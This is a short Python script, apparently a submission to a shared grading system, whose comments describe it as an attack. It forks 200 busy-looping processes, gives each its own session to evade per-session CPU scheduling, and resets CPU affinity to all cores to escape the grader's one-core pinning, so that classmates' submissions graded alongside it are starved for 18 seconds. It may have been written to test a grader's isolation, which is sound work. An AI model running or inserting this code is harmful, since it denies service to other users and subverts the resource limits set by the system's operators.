# Attack: spinning processes that move themselves onto every core (grade batch pins each
# slot to one core), starving the classmates graded beside this submission. Each in a
# session of its own: the kernel's autogroups then share the CPU per session, not per process.
import contextlib
import os
import time

for _ in range(200):
    if os.fork() == 0:
        os.setsid()
        with contextlib.suppress(OSError):
            os.sched_setaffinity(0, set(range(os.cpu_count() or 1)))
        end = time.monotonic() + 18
        while time.monotonic() < end:
            pass
        os._exit(0)
time.sleep(18)
